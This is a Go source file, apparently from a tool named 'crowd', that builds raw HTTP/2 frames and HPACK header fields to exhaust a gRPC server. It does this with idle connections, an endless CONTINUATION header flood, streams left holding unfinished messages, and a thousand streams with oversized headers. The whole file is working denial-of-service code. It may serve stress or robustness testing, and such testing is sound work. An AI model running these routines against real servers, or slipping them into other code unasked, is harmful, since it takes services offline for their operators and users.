package crowd

import (
	"encoding/binary"
	"fmt"
	"io"
	"strings"
	"time"
)

// Types and flags of HTTP/2 frames.
const (
	dataFrame         = 0
	headersFrame      = 1
	settingsFrame     = 4
	continuationFrame = 9
	endHeaders        = 4
)

const (
	// frameBytes is the longest frame that a server has to accept.
	frameBytes = 16 << 10
	// streams is the number of streams that a client opens.
	streams = 1000
	preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
)

// frame returns an HTTP/2 frame.
func frame(kind, flags byte, stream uint32, payload string) string {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	b = append(b, flags)
	return string(binary.BigEndian.AppendUint32(b, stream)) + payload
}

// field returns a header field as an HPACK literal without indexing.
func field(name, value string) string {
	return "\x00" + length(name) + name + length(value) + value
}

// length returns the HPACK length of a string without Huffman code.
func length(s string) string {
	n := len(s)
	if n < 127 {
		return string([]byte{byte(n)})
	}
	b := []byte{127}
	for n -= 127; n >= 128; n /= 128 {
		b = append(b, byte(n%128+128))
	}
	return string(append(b, byte(n)))
}

func (c *client) fields() string {
	return field(":method", "POST") + field(":scheme", "http") + field(":path", c.target.Path) + field(":authority", c.target.Host) +
		field("content-type", "application/grpc") + field("te", "trailers") + field("authorization", "Bearer "+c.target.Key)
}

// idleHTTP2 opens an HTTP/2 connection and sends nothing more.
func (c *client) idleHTTP2() error { return c.hold(preface + frame(settingsFrame, 0, 0, "")) }

// endlessHTTP2Headers sends one list of header fields that doesn't end.
func (c *client) endlessHTTP2Headers() error {
	begin := preface + frame(settingsFrame, 0, 0, "") + frame(headersFrame, 0, 1, c.fields())
	return c.flood(begin, frame(continuationFrame, 0, 1, field("x-long", strings.Repeat("x", frameBytes-20))))
}

// unfinishedMessages opens a few streams and sends most of a gRPC message on each.
func (c *client) unfinishedMessages() error {
	_, err := io.WriteString(c, preface+frame(settingsFrame, 0, 0, ""))
	go func() { _, _ = io.Copy(io.Discard, c) }() // until the connection ends
	const message = 1 << 20
	for i := range 8 {
		_, _ = io.WriteString(c, frame(headersFrame, endHeaders, uint32(2*i+1), c.fields())+frame(dataFrame, 0, uint32(2*i+1), "\x00\x00\x10\x00\x00"))
	}
	part := strings.Repeat("x", 8<<10)
	for n := 0; n < message-len(part) && err == nil; n += len(part) {
		for i := range 8 {
			_, err = io.WriteString(c, frame(dataFrame, 0, uint32(2*i+1), part))
		}
		time.Sleep(time.Millisecond) // lets the server grant more
	}
	if err == nil {
		err = c.trickle("")
	}
	return err
}

// openHTTP2Streams opens streams, each with a large head and no body.
func (c *client) openHTTP2Streams() error {
	_, err := io.WriteString(c, preface+frame(settingsFrame, 0, 0, ""))
	head := c.fields()
	for i := range 10 {
		head += field(fmt.Sprint("x-", i), strings.Repeat("x", 1400))
	}
	for i := range streams {
		if err != nil {
			return err
		}
		_, err = io.WriteString(c, frame(headersFrame, endHeaders, uint32(2*i+1), head))
	}
	if err == nil {
		_, err = io.Copy(io.Discard, c)
	}
	return err
}
